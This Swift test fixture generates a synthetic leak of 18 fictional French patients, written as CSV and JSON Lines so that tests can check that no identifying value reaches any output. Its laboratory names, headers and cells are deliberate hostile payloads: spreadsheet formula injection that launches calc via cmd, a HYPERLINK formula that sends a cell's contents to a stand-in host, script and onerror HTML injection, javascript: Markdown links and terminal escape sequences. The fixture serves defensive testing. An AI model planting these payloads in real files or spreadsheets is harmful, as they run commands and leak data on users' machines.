import Foundation

/// A small leak written by the tests (never committed): 18 patients at 9 laboratories whose
/// names are formula, HTML, Markdown and terminal-escape payloads, with payloads in the header
/// and in the cells too (case `023-csv-formula-injection`, widened). Every identifying value is
/// distinctive, so that a test can look for each one in every output.
enum HostileLeak {
    /// Laboratory names: the controllers (`--controller-column laboratoire`).
    static let laboratories = [
        "=HYPERLINK(\"http://exemple.invalid/?d=\"&A1,\"Labo Alpha\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "<script>alert(\"x\")</script> Labo Beta",
        "[Labo Gamma](http://exemple.invalid/phish)",
        "\u{1B}]8;;http://exemple.invalid\u{07}Labo Delta\u{1B}]8;;\u{07} \u{1B}[31mrouge",
        "\tLabo Tab",
        "\rLabo CR",
    ]

    /// Column names after the identifying columns: payloads of every kind (none looks like a
    /// number: a numeric first row is not taken for a header).
    static let hostileHeaders = [
        "=HYPERLINK(\"http://exemple.invalid/h\",\"Ouvrir\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
        "<img src=x onerror=alert(1)>", "[clic](javascript:alert(1))", "\u{1B}[2J\u{1B}[31mrouge", "\tcol tab", "\rcol cr",
    ]

    static let familyNames = ["Zarkovitch", "Brunelleschi", "Quintavalle", "Ostrowiecki", "Vandermeulen", "Kerguelenn",
                              "Lemarchandeau", "Fitzpatrickson", "Abernathyne", "Castelnaudary", "Villeneuvette", "Montgolfier",
                              "Rastignacou", "Vautrinova", "Gobseckian", "Birotteau", "Nucingenova", "Grandetteau"]
    static let givenNames = ["Anastasie", "Barnabette", "Clothilde", "Desirette", "Eulalie", "Fulgence", "Gaspardine",
                             "Hortensia", "Isidorine", "Jacobine", "Kunegonde", "Leocadie", "Melusine", "Noemiette",
                             "Ophelinde", "Philomene", "Quiterie", "Rosalinde"]

    struct Patient {
        var family, given, birthDate, nir, email, phone, laboratory, comment: String
        /// Every raw value of the row, and the normalised forms of its identifiers.
        var identifyingValues: [String] {
            let digits = phone.filter(\.isNumber)
            return [family, given, birthDate, nir, email, phone, comment,
                    family.uppercased(), email.lowercased(), String(digits.dropFirst()), "+33" + digits.dropFirst(),
                    nir.replacingOccurrences(of: " ", with: "")]
        }
    }

    static var patients: [Patient] {
        (0..<18).map { i in
            let base = String(format: "2%02d%02d75%03d%03d", 50 + i, 1 + i % 12, 100 + i, 200 + i)
            let key = 97 - Int(base)! % 97
            return Patient(family: familyNames[i], given: givenNames[i],
                           birthDate: String(format: "%02d/%02d/19%02d", 1 + i, 1 + i % 12, 50 + i),
                           nir: base + String(format: "%02d", key),
                           email: "\(givenNames[i].lowercased()).\(familyNames[i].lowercased())@exemple.fr",
                           phone: String(format: "06 %02d %02d %02d %02d", 10 + i, 20 + i, 30 + i, 40 + i),
                           laboratory: laboratories[i % laboratories.count],
                           comment: "=cmd|' /C calc'!A0 suivi diabète de type 2 dossier \(7000 + i)")
        }
    }

    /// Values that identify a person: none may appear in any output, log or error message.
    static var identifyingValues: Set<String> {
        Set(patients.flatMap(\.identifyingValues))
    }

    /// The leak as `;`-separated UTF-8 CSV (quoted where needed).
    static var csv: String {
        func cell(_ s: String) -> String {
            s.unicodeScalars.contains(where: { ";\"\r\n".unicodeScalars.contains($0) }) ? "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : s
        }
        let header = ["nom", "prenom", "date_naissance", "nir", "email", "telephone", "laboratoire", "commentaire"] + hostileHeaders
        var lines = [header.map(cell).joined(separator: ";")]
        for p in patients {
            let cells = [p.family, p.given, p.birthDate, p.nir, p.email, p.phone, p.laboratory, p.comment,
                         "=1+1", "+33 6 00", "-2+3", "@x", "<b>x</b>", "[x](javascript:alert(1))", "\u{1B}[31mx", "\tx", "\ry"]
            lines.append(cells.map(cell).joined(separator: ";"))
        }
        return lines.joined(separator: "\n") + "\n"
    }

    /// The same patients as JSON Lines, with two broken lines (one cut, one with a bad escape).
    static var jsonLines: String {
        var lines: [String] = []
        for (i, p) in patients.enumerated() {
            let object: [String: Any] = ["nom": p.family, "prenom": p.given, "date_naissance": p.birthDate, "nir": p.nir,
                                         "email": p.email, "telephone": p.phone, "laboratoire": p.laboratory,
                                         "commentaire": p.comment]
            let data = try! JSONSerialization.data(withJSONObject: object, options: [.sortedKeys])
            var line = String(decoding: data, as: UTF8.self)
            if i == 3 { line = String(line.prefix(line.count / 2)) }
            if i == 5 { line = line.replacingOccurrences(of: "\"nom\":\"", with: "\"nom\":\"\\p") }
            lines.append(line)
        }
        return lines.joined(separator: "\n") + "\n"
    }

    /// Writes `leak.csv` and `leak.jsonl` into `dir`.
    static func write(to dir: URL) throws -> (csv: String, jsonl: String) {
        let csvPath = dir.appendingPathComponent("leak.csv"), jsonlPath = dir.appendingPathComponent("leak.jsonl")
        try Data(csv.utf8).write(to: csvPath)
        try Data(jsonLines.utf8).write(to: jsonlPath)
        return (csvPath.path, jsonlPath.path)
    }
}
